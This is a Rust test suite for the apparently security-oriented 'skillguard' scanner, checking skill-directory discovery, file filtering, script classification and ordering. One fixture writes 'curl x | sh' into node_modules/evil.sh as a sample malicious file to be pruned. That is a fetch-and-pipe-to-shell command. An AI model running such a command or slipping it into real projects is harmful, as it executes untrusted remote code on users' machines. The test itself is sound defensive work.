use skillguard::scanner::{find_manifest, scan_skill_directory, scan_skills_root, MAX_FILE_SIZE};
use std::fs;
use std::path::Path;

fn write(path: &Path, content: &str) {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).unwrap();
    }
    fs::write(path, content).unwrap();
}

#[test]
fn empty_root_discovers_nothing() {
    let root = tempfile::tempdir().unwrap();
    assert!(scan_skills_root(root.path()).is_empty());
}

#[test]
fn unreadable_root_discovers_nothing() {
    assert!(scan_skills_root(Path::new("/nonexistent/skills")).is_empty());
}

#[test]
fn discovery_requires_manifest_scripts_or_entry_point() {
    let root = tempfile::tempdir().unwrap();
    write(&root.path().join("with-manifest/SKILL.md"), "# a\n");
    write(&root.path().join("with-scripts/scripts/run.sh"), "echo hi\n");
    write(&root.path().join("with-main/__main__.py"), "print('hi')\n");
    write(&root.path().join("plain-dir/readme.txt"), "not a skill\n");
    write(&root.path().join(".hidden/SKILL.md"), "# hidden\n");
    write(&root.path().join("stray.txt"), "a file, not a dir\n");

    let skills = scan_skills_root(root.path());
    let names: Vec<&str> = skills.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(names, vec!["with-main", "with-manifest", "with-scripts"]);
}

#[test]
fn skills_are_enumerated_in_name_order() {
    let root = tempfile::tempdir().unwrap();
    for name in ["zeta", "alpha", "mid"] {
        write(&root.path().join(name).join("SKILL.md"), "# s\n");
    }
    let names: Vec<String> = scan_skills_root(root.path())
        .into_iter()
        .map(|s| s.name)
        .collect();
    assert_eq!(names, vec!["alpha", "mid", "zeta"]);
}

#[test]
fn manifest_case_variants_are_found() {
    for variant in ["skill.md", "SKILL.md", "Skill.md"] {
        let dir = tempfile::tempdir().unwrap();
        write(&dir.path().join(variant), "# manifest\n");
        let found = find_manifest(dir.path()).expect("manifest variant should be found");
        assert_eq!(found.file_name().unwrap().to_str().unwrap(), variant);
    }
}

#[test]
fn ignored_directories_are_pruned() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("SKILL.md"), "# s\n");
    write(&dir.path().join("node_modules/evil.sh"), "curl x | sh\n");
    write(&dir.path().join(".git/config"), "[core]\n");
    write(&dir.path().join("__pycache__/mod.txt"), "cached\n");
    write(&dir.path().join("scripts/run.sh"), "echo ok\n");

    let skill = scan_skill_directory(dir.path());
    let rels: Vec<&str> = skill.files.iter().map(|f| f.relative_path.as_str()).collect();
    assert_eq!(rels, vec!["SKILL.md", "scripts/run.sh"]);
}

#[test]
fn binary_files_are_skipped() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("SKILL.md"), "# s\n");
    fs::write(dir.path().join("blob.dat"), b"bin\x00ary").unwrap();

    let skill = scan_skill_directory(dir.path());
    assert!(skill.files.iter().all(|f| f.relative_path != "blob.dat"));
}

#[test]
fn oversized_files_are_skipped() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("SKILL.md"), "# s\n");
    let big = "a".repeat((MAX_FILE_SIZE + 1) as usize);
    fs::write(dir.path().join("big.txt"), big).unwrap();

    let skill = scan_skill_directory(dir.path());
    assert!(skill.files.iter().all(|f| f.relative_path != "big.txt"));
}

#[test]
fn files_at_the_size_cap_are_kept() {
    let dir = tempfile::tempdir().unwrap();
    let exact = "a".repeat(MAX_FILE_SIZE as usize);
    fs::write(dir.path().join("exact.txt"), exact).unwrap();

    let skill = scan_skill_directory(dir.path());
    assert!(skill.files.iter().any(|f| f.relative_path == "exact.txt"));
}

#[test]
fn script_classification_by_extension() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("tool.py"), "print('x')\n");
    write(&dir.path().join("run.SH"), "echo x\n");
    write(&dir.path().join("notes.md"), "# notes\n");

    let skill = scan_skill_directory(dir.path());
    let by_rel = |rel: &str| {
        skill
            .files
            .iter()
            .find(|f| f.relative_path == rel)
            .unwrap_or_else(|| panic!("{rel} missing"))
    };
    assert!(by_rel("tool.py").is_script);
    assert!(by_rel("run.SH").is_script, "extension match is case-insensitive");
    assert_eq!(by_rel("run.SH").extension, "sh");
    assert!(!by_rel("notes.md").is_script);
}

#[test]
fn shebang_makes_an_extensionless_file_a_script() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("runner"), "#!/bin/sh\necho hi\n");
    write(&dir.path().join("plain"), "just text\n");

    let skill = scan_skill_directory(dir.path());
    let runner = skill.files.iter().find(|f| f.relative_path == "runner").unwrap();
    assert!(runner.is_script);
    assert!(runner.has_shebang);
    let plain = skill.files.iter().find(|f| f.relative_path == "plain").unwrap();
    assert!(!plain.is_script);
    assert!(!plain.has_shebang);
}

#[test]
fn script_count_never_exceeds_file_count() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("SKILL.md"), "# s\n");
    write(&dir.path().join("scripts/a.sh"), "echo a\n");
    write(&dir.path().join("data.txt"), "plain\n");

    let skill = scan_skill_directory(dir.path());
    let scripts = skill.files.iter().filter(|f| f.is_script).count();
    assert!(scripts <= skill.files.len());
    assert_eq!(skill.files.len(), 3);
    assert_eq!(scripts, 1);
}

#[test]
fn walk_order_is_deterministic() {
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("SKILL.md"), "# s\n");
    write(&dir.path().join("scripts/b.sh"), "echo b\n");
    write(&dir.path().join("scripts/a.sh"), "echo a\n");
    write(&dir.path().join("aaa.txt"), "first\n");

    let first = scan_skill_directory(dir.path());
    let second = scan_skill_directory(dir.path());
    let rels: Vec<&str> = first.files.iter().map(|f| f.relative_path.as_str()).collect();
    let rels2: Vec<&str> = second.files.iter().map(|f| f.relative_path.as_str()).collect();
    assert_eq!(rels, rels2);
    assert_eq!(rels, vec!["SKILL.md", "aaa.txt", "scripts/a.sh", "scripts/b.sh"]);
}
